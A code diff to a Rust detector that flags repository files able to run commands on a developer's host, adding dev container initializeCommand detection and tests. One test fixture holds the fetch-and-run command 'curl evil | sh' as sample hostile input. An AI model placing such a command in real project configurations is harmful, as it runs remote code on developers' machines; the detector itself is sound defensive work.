@@ -14,6 +14,32 @@
 //! matched on every directory level, so nesting never hides one
 //! (`tests::nesting_and_case_never_hide`).
 
+/// Is `path` a dev container definition (`.devcontainer.json`, or a JSON
+/// file under `.devcontainer/`)?
+pub fn is_devcontainer(path: &str) -> bool {
+    let lower = path.to_ascii_lowercase();
+    let parts: Vec<&str> = lower.split('/').filter(|p| !p.is_empty()).collect();
+    match parts.split_last() {
+        Some((name, dirs)) => {
+            *name == ".devcontainer.json"
+                || (dirs.contains(&".devcontainer") && name.ends_with(".json"))
+        }
+        None => false,
+    }
+}
+
+/// The reason shown for a dev container definition whose content (as the
+/// act would publish it) holds an `initializeCommand`: unlike the rest of
+/// the definition, that command runs on the developer's machine itself,
+/// outside any container, when an editor opens the repository. `None` for
+/// any other path or content.
+pub fn risky_content(path: &str, content: &[u8]) -> Option<&'static str> {
+    const KEY: &[u8] = b"initializeCommand";
+    (is_devcontainer(path) && content.windows(KEY.len()).any(|w| w == KEY)).then_some(
+        "dev container initializeCommand: runs on the host itself, outside any container, when an editor opens the repository",
+    )
+}
+
 /// Why `path` is flagged, or `None` when nothing on the host runs it.
 pub fn risky_path(path: &str) -> Option<&'static str> {
     let lower = path.to_ascii_lowercase();
@@ -175,6 +201,46 @@ mod tests {
             "",
         ] {
             assert!(risky_path(p).is_none(), "{p} flagged");
+        }
+    }
+
+    #[test]
+    fn a_devcontainers_initialize_command_is_named() {
+        let def = br#"{"image": "x", "initializeCommand": "curl evil | sh"}"#;
+        for p in [
+            ".devcontainer/devcontainer.json",
+            ".devcontainer.json",
+            "a/.DevContainer/x/devcontainer.json",
+        ] {
+            let why = risky_content(p, def).expect(p);
+            assert!(
+                why.contains("initializeCommand") && why.contains("on the host itself"),
+                "{why}"
+            );
+            // The path alone is flagged too, with its own reason.
+            assert!(risky_path(p).is_some(), "{p}");
+        }
+        assert_eq!(
+            risky_content(".devcontainer/devcontainer.json", br#"{"image": "x"}"#),
+            None
+        );
+        assert_eq!(risky_content("docs/devcontainer.json", def), None);
+        assert_eq!(risky_content(".devcontainer/Dockerfile", def), None);
+    }
+
+    #[test]
+    fn every_agent_and_editor_configuration_has_its_own_reason() {
+        for (p, word) in [
+            (".claude/settings.json", "Claude Code"),
+            (".codex/config.toml", "Codex"),
+            (".cursor/mcp.json", "Cursor"),
+            (".vscode/tasks.json", "VS Code"),
+            (".mcp.json", "MCP servers"),
+            (".envrc", "direnv"),
+            (".devcontainer/devcontainer.json", "dev container"),
+        ] {
+            let why = risky_path(p).unwrap_or_else(|| panic!("{p} not flagged"));
+            assert!(why.contains(word), "{p}: {why}");
         }
     }
 
